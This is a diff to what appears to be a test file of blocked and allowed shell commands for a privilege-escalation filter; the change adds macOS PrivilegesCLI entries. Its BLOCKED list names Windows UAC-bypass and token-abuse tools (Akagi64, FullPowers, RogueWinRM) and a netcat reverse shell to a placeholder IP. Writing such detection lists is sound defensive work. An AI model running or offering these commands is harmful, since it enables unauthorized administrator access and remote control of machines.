@@ -74,6 +74,8 @@ BLOCKED = [
     ("powershell", "C:\\Windows\\System32\\computerdefaults.exe"),
     ("powershell", ".\\Akagi64.exe 23 C:\\Windows\\System32\\cmd.exe"),
     ("posix", "runas.exe /user:Administrator cmd.exe"),
+    ("posix", "PrivilegesCLI --add"),  # macOS: SAP's Privileges makes the user an administrator
+    ("posix", "/Applications/Privileges.app/Contents/MacOS/PrivilegesCLI -a -n 'Installing updates'"),
     # FullPowers gives a service account its privileges back; RogueWinRM impersonates SYSTEM.
     ("powershell", 'FullPowers -c "C:\\TOOLS\\nc64.exe 1.2.3.4 1337 -e cmd" -z'),
     ("powershell", ".\\RogueWinRM.exe -p C:\\Users\\Public\\nc64.exe"),
@@ -96,6 +98,7 @@ ALLOWED = [
     ("powershell", "Start-Process notepad -Verb Open"),
     ("powershell", "Get-Help Start-Process -Parameter Verb"),
     ("powershell", "gsudo --help"),
+    ("posix", "PrivilegesCLI --help"),
     ("powershell", "Write-Output 'needs runas'"),
 ]
 
